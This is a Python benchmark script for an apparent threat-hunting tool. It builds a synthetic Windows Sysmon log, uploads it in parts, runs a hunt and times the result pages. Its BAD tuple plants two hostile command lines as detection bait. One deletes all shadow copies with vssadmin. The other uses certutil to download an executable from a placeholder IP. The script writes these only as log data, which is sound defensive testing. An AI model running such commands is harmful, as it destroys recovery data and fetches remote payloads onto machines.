"""The hunting room end to end: a million events uploaded in parts, hunted through, findings kept; a result page of 100,000 findings.

Run: uv run python -m benchmarks.hunting [--events 1000000] [--findings 100000] [--rules DIR|ZIP]
SQLite in a passing folder. The log is made: Windows process events of 200 hosts, every command line a new one, one in a hundred bad; so the
matcher's memory of answers helps little. Upload goes through Django's test client by the same addresses as the page's script (8 MB parts,
each with its digest), sealed on disk; the run is a process of its own, as `luytre jobs` starts it.
"""

import argparse
import hashlib
import os
import platform
import random
import resource
import subprocess
import sys
import tempfile
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from statistics import median
from typing import Any

PART = 8 << 20
NOW = datetime(2026, 11, 22, 3, tzinfo=UTC)
BAD = ("vssadmin delete shadows /all /quiet", "certutil -urlcache -f http://198.51.100.9/a.exe a.exe")


def main() -> None:
    asked = _parse()
    with tempfile.TemporaryDirectory() as folder:
        os.environ |= {"LUYTRE_DATA": folder, "DJANGO_SETTINGS_MODULE": "luytre.site.settings", "LUYTRE_TODAY": "2026-11-22"}
        os.environ |= {"LUYTRE_MARK": "benchmark", "LUYTRE_MFA": "off", "LUYTRE_HOSTS": "testserver", "LUYTRE_LOG": "ERROR"}
        if asked.rules:
            os.environ["LUYTRE_HUNT_RULES"] = asked.rules
        os.environ.pop("LUYTRE_DATABASE_URL", None)
        import django

        django.setup()
        from django.core.management import call_command

        call_command("migrate", verbosity=0)
        print(f"{platform.platform()}, Python {platform.python_version()}, {os.cpu_count()} cores, SQLite")
        _people()
        log = Path(folder) / "log.json"
        size = _write(log, asked.events)
        print(f"log: {asked.events:,} events, {size / 1e6:,.0f} MB")
        end_to_end(log)
        pages(asked.findings)


def _parse() -> argparse.Namespace:
    parser = argparse.ArgumentParser()
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--findings", type=int, default=100_000)
    parser.add_argument("--rules", default="")
    return parser.parse_args()


def _people() -> None:
    from luytre.register import actions as register
    from luytre.register.book import Book
    from luytre.register.models import Person

    book, start = Book(), datetime(2022, 1, 1, tzinfo=UTC).date()
    book.put("organisation", "xa")
    for table, value in (("name", "UBND xã Mẫu"), ("type", "commune"), ("exists", True)):
        book.add(f"organisation.{table}", "xa", value, from_on=start, known_at=None)
    book.put("person", "xa", name="Người xã", salutation="Bà", phone="", email="")
    book.add("post", "xa", "xa", "contact", "", from_on=start, known_at=None)
    book.put("system", "mot-cua")
    for table, value in (("name", "Một cửa"), ("owner", "xa"), ("level", 2), ("phase", "operating")):
        book.add(f"system.{table}", "mot-cua", value, from_on=start, known_at=None)
    register.load(by="console", at=datetime(2022, 11, 1, tzinfo=UTC), book=book)
    register.open_account(username="xa", password=None, person=Person.objects.get(code="xa"))


def _write(place: Path, events: int) -> int:
    chance = random.Random(13)
    head = '{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Provider_Name":"Microsoft-Windows-Sysmon"'
    start = datetime(2026, 11, 1, tzinfo=UTC)
    with place.open("w") as out:
        for number in range(events):
            at = (start + timedelta(seconds=number * 20 * 86400 / events)).strftime("%Y-%m-%dT%H:%M:%SZ")
            command = chance.choice(BAD) if number % 100 == 0 else f"svchost.exe -k netsvcs -p -s {chance.getrandbits(64):x}"
            image = "vssadmin" if "vssadmin" in command else "certutil" if "certutil" in command else "svchost"
            out.write(f'{head},"Computer":"MAY-{number % 200:03}.xa.local","TimeCreated":"{at}","EventRecordID":{number},')
            out.write(f'"Image":"C:\\\\Windows\\\\System32\\\\{image}.exe","CommandLine":"{command}",')
            out.write(f'"ParentImage":"C:\\\\Windows\\\\System32\\\\services.exe","User":"XA\\\\can-bo-{number % 37}"}}\n')
    return place.stat().st_size


def _client() -> Any:
    from django.test import Client

    from luytre.register.models import Account

    made = Client()
    made.force_login(Account.objects.get(username="xa"))
    return made


def _hunt(client: Any) -> str:
    hosts = "\n".join(f"MAY-{n:03}" for n in range(200))
    said = {"body": "org:xa", "system": "system:mot-cua", "hosts-system:mot-cua": hosts, "from_on": "01/11/2026", "to_on": "20/11/2026"}
    answer = client.post("/desk/hunts/new/", said)
    assert answer.status_code == 302, answer.content[:2000]
    return str(answer.url)


def end_to_end(log: Path) -> None:
    from luytre.rooms.hunting.models import Run

    client = _client()
    address, started = _hunt(client), time.perf_counter()
    _upload(client, address, log)
    sent = time.perf_counter()
    client.post(address + "runs/")
    run = Run.objects.get(ended_at=None)
    subprocess.run([sys.executable, "-m", "luytre.cli", "hunting", "run", str(run.pk)], check=True, stdout=subprocess.DEVNULL)
    done = time.perf_counter()
    page = client.get(address + "runs/1/")
    assert page.status_code == 200
    run.refresh_from_db()
    shown = time.perf_counter()
    print(f"upload {sent - started:.1f} s, run {done - sent:.1f} s, page {shown - done:.2f} s; upload → findings {done - started:.1f} s")
    spent = resource.getrusage(resource.RUSAGE_CHILDREN)
    print(f"processor time of the run {spent.ru_utime + spent.ru_stime:.1f} s; load of the machine {os.getloadavg()[0]:.1f}")
    print(f"events {run.events:,}, findings {run.found:,}, leads {run.leads.count():,}, coverage {_covered(run)}")


def _covered(run: Any) -> str:
    from luytre.rooms.hunting.queries import findings

    one = findings.coverages(run.hunt, run)["system:mot-cua"]
    return f"{one.seen_hosts}/{len(one.declared)} hosts, {one.seen_cells}/{one.cells} host-days"


def _upload(client: Any, address: str, log: Path) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    about = {"system": "system:mot-cua", "name": log.name, "size": log.stat().st_size, "modified": 1}
    told = client.post(address + "uploads/", about).json()
    with log.open("rb") as stream:
        while content := stream.read(PART):
            said = {"offset": told["received"], "sha256": hashlib.sha256(content).hexdigest(), "part": SimpleUploadedFile("p", content)}
            told = client.post(f"{address}uploads/{told['upload']}/parts/", said).json()
    assert told["received"] == told["size"], told


def pages(count: int) -> None:
    """A result page whose run has so many findings: each a lead of its own (the worst case), and as a hunt gives them."""
    from luytre.rooms.hunting.models import Finding, Lead, Run

    client, run = _client(), Run.objects.order_by("-pk").first()
    assert run is not None
    Lead.objects.filter(run=run).delete()
    levels = ("critical", "high", "medium", "low", "informational")
    leads = [
        Lead(run=run, number=n, rule=f"r{n % 500}", title=f"Quy tắc số {n % 500}", level=levels[n % 5], rank=n % 5, host=f"may-{n // 500}")
        for n in range(count)
    ]
    why: Any = [{"field": "CommandLine", "op": "contains", "value": "delete shadows", "seen": "vssadmin delete shadows"}]
    for one in leads:
        one.why, one.count, one.first_at, one.attack = why, 1, NOW, "impact T1490"
    Lead.objects.bulk_create(leads, batch_size=5000)
    told: Any = {"why": why, "event": {"a": 1}, "source": {}}
    Finding.objects.bulk_create([Finding(lead=lead, at=NOW, told=told) for lead in leads], batch_size=5000)
    Run.objects.filter(pk=run.pk).update(found=count)
    address = f"/desk/hunts/{run.hunt.code}/runs/{run.number}/"
    for asked in ("", "?show=new", "?level=high", "?host=may-3", f"?page={count // 30}", "?q=may-19"):
        client.get(address + asked)
        took = [_timed(client, address + asked) for _ in range(5)]
        print(f"result page, {count:,} findings {asked or '(first page)':<14} {median(took) * 1000:.0f} ms")


def _timed(client: Any, address: str) -> float:
    started = time.perf_counter()
    assert client.get(address).status_code == 200
    return time.perf_counter() - started


if __name__ == "__main__":
    main()
